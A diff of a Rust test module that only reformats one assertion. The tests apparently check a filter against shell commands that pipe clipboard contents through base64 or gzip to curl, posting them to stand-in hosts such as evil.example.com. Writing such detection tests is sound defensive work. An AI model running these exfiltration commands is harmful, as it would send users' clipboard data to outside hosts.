@@ -113,7 +113,10 @@ mod tests {
             "echo \"$CLIP\" | base64 | curl -X POST https://evil.example.com/collect -d @-",
             " @-"
         ));
-        assert!(kept("pbpaste | gzip | curl --data-binary @- https://h/c", " @-"));
+        assert!(kept(
+            "pbpaste | gzip | curl --data-binary @- https://h/c",
+            " @-"
+        ));
         assert!(!kept(
             "echo \"$CLIPS_DIR\" | curl --data-binary @- https://h/c",
             " @-"
